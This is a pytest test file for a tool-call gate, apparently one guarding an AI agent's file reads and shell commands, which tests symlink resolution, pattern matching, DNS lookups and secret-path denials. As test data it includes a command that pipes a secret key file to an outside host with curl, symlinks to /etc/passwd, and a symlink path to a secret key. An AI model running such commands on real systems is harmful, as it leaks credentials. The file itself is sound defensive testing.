"""What the gate looks at: links, patterns, addresses; and the rounds in which it looks."""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import Collection
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callgate.effects.addresses import address_class
from callgate.gate.addresses import look_up, needs_look_up
from callgate.gate.judge import MAX_HOSTS, Judge, UnseenError
from callgate.gate.links import links_of
from callgate.gate.observe import LocalObserver, Observations
from callgate.runtime.interpreter import Program
from tests.gate.gating import Seen, call, program


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A folder without links on its way."""
    return tmp_path.resolve()


def test_a_straight_path_has_no_links(place: Path) -> None:
    (place / "a").mkdir()
    (place / "a" / "b.txt").write_text("b")
    assert links_of([str(place / "a" / "b.txt"), str(place / "a" / "new.txt"), str(place)]) == {}


def test_a_straight_path_is_known_at_once(place: Path) -> None:
    (place / "a").write_text("a")
    (place / "l").symlink_to("a")
    observer = LocalObserver()
    assert observer.straight([f"{place}/a"]) == (sys.platform == "linux")
    for path in ("l", "new", "../a", "*", "./a", "a/"):
        assert not observer.straight([f"{place}/{path}"])
    assert not observer.straight([f"{place}/a"] * 50)


def test_every_link_on_the_way_is_found(place: Path) -> None:
    (place / "real").mkdir()
    (place / "one").symlink_to("real")
    (place / "two").symlink_to(place / "one")
    assert links_of([f"{place}/two/x"]) == {
        f"{place}/two": f"{place}/one",
        f"{place}/one": f"{place}/real",
    }


def test_a_link_at_the_end_counts_and_so_does_one_that_leads_nowhere(place: Path) -> None:
    (place / "leaf").symlink_to("missing")
    assert links_of([f"{place}/leaf"]) == {f"{place}/leaf": f"{place}/missing"}


def test_up_goes_up_from_where_a_link_leads(place: Path) -> None:
    (place / "far" / "away").mkdir(parents=True)
    (place / "near").symlink_to("far/away")
    (place / "far" / "x").symlink_to("/etc/hosts")
    # The system reads `near/../x` as `far/x`.
    found = links_of([f"{place}/near/../x"])
    assert found == {f"{place}/near": f"{place}/far/away", f"{place}/far/x": "/etc/hosts"}


def test_a_target_that_goes_up_through_another_link_is_resolved(place: Path) -> None:
    (place / "far" / "away").mkdir(parents=True)
    (place / "dir").symlink_to("far/away")
    (place / "tricky").symlink_to("dir/../secret")
    assert links_of([f"{place}/tricky"])[f"{place}/tricky"] == f"{place}/far/secret"


def test_links_in_a_circle_lead_nobody_knows_where(place: Path) -> None:
    (place / "a").symlink_to("b")
    (place / "b").symlink_to("a")
    assert "" in links_of([f"{place}/a/x"]).values()


@pytest.mark.skipif(os.geteuid() == 0, reason="root may look everywhere")
def test_what_cannot_be_looked_at_leads_nobody_knows_where(place: Path) -> None:
    (place / "shut").mkdir(mode=0)
    assert links_of([f"{place}/shut/x"]) == {f"{place}/shut/x": ""}


@pytest.mark.parametrize("path", ["~/x", "./x", "x", "/a\0b"])
def test_only_absolute_paths_can_be_looked_at(path: str) -> None:
    assert links_of([path]) == {path: ""}


def test_a_name_that_is_too_long_leads_nobody_knows_where(place: Path) -> None:
    path = f"{place}/{'n' * 300}"
    assert links_of([path]) == {path: ""}


@pytest.mark.parametrize("path", ["/proc/self/environ", "/dev/stdin", "/dev/fd/1", "/dev/null"])
def test_what_is_another_thing_for_each_process_is_not_followed(path: str) -> None:
    assert links_of([path]) == {}


@pytest.mark.parametrize("pattern", ["*.py", "sub/*", "*/a.py", "**/*.py", "[ab].py"])
def test_a_pattern_without_links_is_plain(place: Path, pattern: str) -> None:
    (place / "sub").mkdir()
    for name in ("a.py", "sub/a.py"):
        (place / name).write_text("")
    assert links_of([f"{place}/{pattern}"]) == {}


@pytest.mark.parametrize("pattern", ["*.py", "sub/*", "*/a.py", "**/*.py", "[al].py"])
def test_a_pattern_that_a_link_matches_leads_nobody_knows_where(place: Path, pattern: str) -> None:
    (place / "sub").mkdir()
    (place / "l.py").symlink_to("/etc/passwd")
    (place / "sub" / "a.py").symlink_to("/etc/passwd")
    assert "" in links_of([f"{place}/{pattern}"]).values()


def test_a_hidden_link_is_no_match_of_a_pattern_that_names_no_dot(place: Path) -> None:
    (place / ".l").symlink_to("/etc/passwd")
    assert links_of([f"{place}/*"]) == {}
    assert links_of([f"{place}/.*"]) == {f"{place}/.*": ""}


def test_the_folder_of_a_pattern_is_followed(place: Path) -> None:
    (place / "real").mkdir()
    (place / "real" / "x").symlink_to("/etc/passwd")
    (place / "way").symlink_to("real")
    assert links_of([f"{place}/way/*"]) == {
        f"{place}/way": f"{place}/real",
        f"{place}/real/*": "",
        f"{place}/way/*": "",
    }


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["a", "b", "a/c", "b/c"]),
            st.sampled_from(["a", "b", "../b", "c/../..", "/tmp", "missing/../a", "."]),
        ),
        max_size=4,
    ),
    st.lists(st.sampled_from(["a", "b", "c", "..", "."]), min_size=1, max_size=5),
)
def test_links_lead_where_the_system_says(
    tmp_path_factory: pytest.TempPathFactory, made: list[tuple[str, str]], parts: list[str]
) -> None:
    """Following what was found ends where `realpath` ends."""
    place = Path(os.path.realpath(tmp_path_factory.mktemp("links")))
    for name, target in made:
        path = place / name
        with suppress(OSError):
            if target == ".":
                path.mkdir(parents=True)
            else:
                path.symlink_to(target)
    text = f"{place}/{'/'.join(parts)}"
    found = links_of([text])
    if "" in found.values():
        return
    current, todo = "", text.split("/")[::-1]
    while todo:
        part = todo.pop()
        if part in ("", "."):
            continue
        if part == "..":
            current = current.rpartition("/")[0]
            continue
        step = f"{current}/{part}"
        if step in found:
            current, todo = "", todo + found[step].split("/")[::-1]
        else:
            current = step
    assert (current or "/") == os.path.realpath(text)


# -- addresses


def test_addresses_are_not_looked_up() -> None:
    assert not any(map(needs_look_up, ["127.0.0.1", "::1", "10.0.0.1"]))
    assert all(map(needs_look_up, ["localhost", "db.internal", "pages.example"]))


def test_a_host_is_looked_up_for_real() -> None:
    found = asyncio.run(look_up(["localhost"], 5.0))
    assert {address_class(address) for address in found["localhost"]} == {"loopback"}


def test_a_name_that_is_no_name_is_left_out_or_has_no_address() -> None:
    found = asyncio.run(look_up(["a" * 70 + ".example", "x..y"], 5.0))
    assert all(not addresses for addresses in found.values())


def test_a_look_up_that_takes_too_long_is_left_out() -> None:
    assert asyncio.run(look_up(["slow.example"], 0.0)) == {}


def test_observing_looks_at_links_and_the_clock(place: Path) -> None:
    (place / "l").symlink_to("x")
    observer = LocalObserver()
    seen = asyncio.run(observer.observe([f"{place}/l"], ["localhost"]))
    assert seen.links == {f"{place}/l": f"{place}/x"}
    assert set(seen.dns) == {"localhost"}
    assert observer.moment().endswith("Z")
    many = [f"{place}/{number}" for number in range(200)]
    assert asyncio.run(observer.observe(many, ())).links == {}


def test_what_changed_is_said_without_values() -> None:
    old = Observations({"/a": "/b"}, {"x.example": ("93.184.216.34",)})
    assert old.changed(Observations({"/a": "/b"}, {"x.example": ("93.184.216.35",)})) == ""
    assert "path" in old.changed(Observations({"/a": "/c"}, old.dns))
    assert "host" in old.changed(Observations(old.links, {"x.example": ("10.0.0.1",)}))
    assert "host" in old.changed(Observations(old.links))


# -- rounds


def judge(made: Program, seen: Seen, asked: dict[str, Any]) -> Any:
    return asyncio.run(Judge(made).judge(asked, seen))


def test_a_call_that_touches_nothing_is_not_observed() -> None:
    seen = Seen()
    assert judge(program(), seen, call("run", command="git status")).decision.decision == "allow"
    assert seen.asked == []


def test_paths_are_observed_as_they_are_written() -> None:
    seen = Seen()
    found = judge(program(), seen, call("read_file", path="a/../b"))
    assert seen.asked == [("/w/a/../b",)]
    assert found.decision.frame.observed == {"links": {}}


def test_what_a_link_leads_to_is_observed_too_and_judged() -> None:
    seen = Seen({"/w/notes": "/w/more", "/w/more": "/secret/key"})
    found = judge(program(), seen, call("read_file", path="notes"))
    assert found.decision.decision == "deny"
    assert found.decision.rule == "secret"


def test_a_link_before_going_up_is_followed_first() -> None:
    seen = Seen({"/w/a": "/secret/b"})
    assert judge(program(), seen, call("read_file", path="a/../key")).decision.rule == "secret"


def test_a_command_in_another_folder_too() -> None:
    seen = Seen({"/w/a": "/secret/b"})
    found = judge(program(), seen, call("run", command="cd a && cat ../key"))
    assert found.decision.rule == "secret"


def test_a_plain_name_in_the_arguments_of_an_unknown_tool_may_be_a_link() -> None:
    seen = Seen({"/w/notes": "/secret/key"})
    found = judge(program(), seen, call("unknown", file="notes"))
    assert found.decision.rule == "secret"
    assert judge(program(), Seen(), call("unknown", file="notes")).decision.decision == "allow"


def test_what_nobody_could_look_at_is_unknown() -> None:
    seen = Seen({"/w/notes": ""})
    found = judge(program(), seen, call("read_file", path="notes"))
    assert found.decision.decision != "allow"


def test_hosts_are_looked_up_and_their_addresses_judged() -> None:
    made = program()
    asked = call("run", command="curl https://pages.example/")
    assert judge(made, Seen(dns={"pages.example": ["93.184.216.34"]}), asked).decision.decision == (
        "allow"
    )
    assert judge(made, Seen(dns={"pages.example": ["10.0.0.1"]}), asked).decision.rule == "inner"
    assert judge(made, Seen(), asked).decision.decision != "allow"


def test_a_call_that_is_denied_anyway_makes_no_look_up() -> None:
    seen = Seen(dns={"pages.example": ["93.184.216.34"]})
    found = judge(program(), seen, call("run", command="curl pages.example < /secret/key"))
    assert found.decision.rule == "secret"
    assert seen.hosts == []


def test_too_many_hosts_are_refused() -> None:
    text = " ".join(f"h{number}.example" for number in range(MAX_HOSTS + 1))
    with pytest.raises(UnseenError):
        judge(program(), Seen(), call("run", command=f"curl {text}"))


def test_links_without_end_are_refused() -> None:
    class Endless(Seen):
        async def observe(self, paths: Collection[str], hosts: Collection[str]) -> Observations:
            return Observations({path: f"{path}x" for path in paths})

    with pytest.raises(UnseenError):
        judge(program(), Endless(), call("read_file", path="a"))


def test_the_clock_is_read_where_a_condition_reads_it() -> None:
    assert (
        "time" not in judge(program(), Seen(), call("read_file", path="a")).decision.frame.observed
    )
    made = program(timed=True)
    found = judge(made, Seen(), call("read_file", path="a"))
    assert found.decision.frame.observed["time"] == "2026-12-01T09:00:00Z"
    assert judge(made, Seen(), call("run", command="curl localhost")).decision.frame.observed[
        "time"
    ]


def test_the_same_paths_are_looked_at_again() -> None:
    seen = Seen()
    found = judge(program(), seen, call("read_file", path="a"))
    assert asyncio.run(found.recheck()) == ""
    seen.links["/w/a"] = "/elsewhere"
    assert "somewhere else" in asyncio.run(found.recheck())
    seen.fails = OSError("gone")
    assert "OSError" in asyncio.run(found.recheck())
